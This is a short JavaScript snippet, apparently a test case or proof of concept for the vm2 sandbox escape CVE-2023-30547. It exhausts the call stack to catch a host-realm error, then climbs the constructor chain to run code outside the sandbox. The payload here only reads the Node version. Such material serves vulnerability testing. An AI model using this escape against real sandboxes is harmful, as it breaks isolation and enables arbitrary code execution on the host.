// The stack is full inside a function that the runtime lends.
// Source: vm2, CVE-2023-30547.
const deep = () => { try { return deep() } catch { return new URL("http://x").searchParams } };
try { deep() } catch (error) { return error.constructor.constructor("return process.version")() }
return (() => {}).constructor("return process.version")()
